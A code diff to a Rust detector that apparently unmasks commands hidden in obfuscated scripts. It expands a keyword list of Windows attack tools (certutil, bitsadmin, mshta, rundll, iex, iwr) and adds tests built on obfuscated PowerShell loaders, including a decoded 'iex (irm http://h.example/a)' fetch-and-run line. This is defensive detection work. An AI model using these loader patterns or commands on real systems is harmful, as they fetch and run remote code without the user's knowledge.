@@ -133,7 +133,29 @@ fn shifted(source: &str, lower: &str, masks: &[Mask]) -> Vec<String> {
 
 /// Words of programs that chance does not make out of others.
 const PROGRAM: &[&str] = &[
-    "http", "eval", "shell", "script", "function", "object", "invoke", "return", "document",
+    "http",
+    "eval",
+    "shell",
+    "script",
+    "function",
+    "object",
+    "invoke",
+    "return",
+    "document",
+    ".exe",
+    "cmd ",
+    "cmd.",
+    "iex(",
+    "iex ",
+    "iwr ",
+    "curl ",
+    "mshta",
+    "rundll",
+    "regsvr",
+    "certutil",
+    "bitsadmin",
+    "msiexec",
+    "start-",
 ];
 
 /// How many characters of a text are those that programs are mostly made of.
@@ -376,6 +398,16 @@ mod tests {
             "$s='{shifted}';foreach($c in $s.ToCharArray()){{$o+=[char]([int]$c-3)}};iex $o"
         );
         assert_eq!(masked_texts(&source), ["iex (irm http://h.example/a)"]);
+        // Texts beside it hide no command.
+        let command: String = "rundll32 user.dat Run"
+            .bytes()
+            .map(|byte| char::from(byte + 3))
+            .collect();
+        let others = "$a='an ordinary text of which there are many';".repeat(20);
+        let source = format!(
+            "{others}$s='{command}';foreach($c in $s.ToCharArray()){{$o+=[char]([int]$c-3)}};iex $o"
+        );
+        assert_eq!(masked_texts(&source), ["rundll32 user.dat Run"]);
         for source in [
             concat!(
                 "k = s.charCodeAt(i) ^ 1; eval(x); a('dgkl`Zhlkl(alccZbpqq`wZjqm`w'); ",
